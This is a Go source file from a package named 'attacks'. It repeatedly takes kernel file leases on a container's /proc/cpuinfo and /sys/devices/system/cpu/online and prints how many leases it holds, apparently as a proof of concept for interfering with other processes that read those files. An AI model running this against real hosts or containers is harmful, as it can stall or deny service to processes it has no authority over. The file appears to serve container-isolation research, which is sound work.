package attacks

import (
	"fmt"
	"os/signal"
	"time"

	"golang.org/x/sys/unix"
)

// viewFiles are the files of the container's view.
var viewFiles = []string{"/sys/devices/system/cpu/online", "/proc/cpuinfo"}

// holdLeases repeatedly takes leases on the files of the container's view. It can do this because root in the container owns the files.
// It prints "ready" after the first attempt, and the number of leases whenever this number changes.
func holdLeases(kind string) {
	signal.Ignore(unix.SIGIO)
	lease := map[string]int{"read": unix.F_RDLCK, "write": unix.F_WRLCK}[kind]
	var fds []int
	for _, name := range viewFiles {
		fd, err := unix.Open(name, unix.O_RDONLY|unix.O_CLOEXEC, 0)
		check(err)
		fds = append(fds, fd)
	}
	for last := -1; ; time.Sleep(5 * time.Millisecond) {
		held := 0
		for _, fd := range fds {
			if takeLease(fd, lease) {
				held++
			}
		}
		if held == last {
			continue
		}
		if last == -1 {
			fmt.Println("ready")
		}
		last = held
		fmt.Println("leases", held)
	}
}

// takeLease takes a lease on a file, given a descriptor. If the descriptor already has the lease, takeLease takes a new lease only while
// the kernel breaks the old lease. It reports whether the descriptor has a lease afterwards.
func takeLease(fd, lease int) bool {
	if is, _ := unix.FcntlInt(uintptr(fd), unix.F_GETLEASE, 0); is == lease {
		return true
	}
	unix.FcntlInt(uintptr(fd), unix.F_SETLEASE, unix.F_UNLCK)
	_, err := unix.FcntlInt(uintptr(fd), unix.F_SETLEASE, lease)
	return err == nil
}
